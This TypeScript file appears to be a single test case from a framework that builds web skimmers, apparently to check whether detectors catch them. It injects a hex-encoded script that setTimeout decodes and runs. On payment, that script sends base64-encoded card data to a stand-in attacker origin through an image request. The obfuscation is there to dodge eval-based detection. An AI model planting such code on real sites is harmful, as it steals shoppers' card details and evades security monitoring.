import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'timeout-string-loader',
  why: 'The code is a text of hexadecimal digits handed to setTimeout, which runs texts: no eval and no Function in sight.',
  covers: ['obfuscation: eval', 'trigger: delay', 'obfuscation: arrays'],
  base: 'direct',
  install: (site) => {
    const code = onPay(
      js`new Image().src = '${site.origins.evil}/to.gif?d=' + encodeURIComponent(btoa(card()));`,
    );
    site.inline(
      js`setTimeout('${Buffer.from(code).toString('hex')}'.replace(/../g, function (h) { return String.fromCharCode(parseInt(h, 16)); }), 400);`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
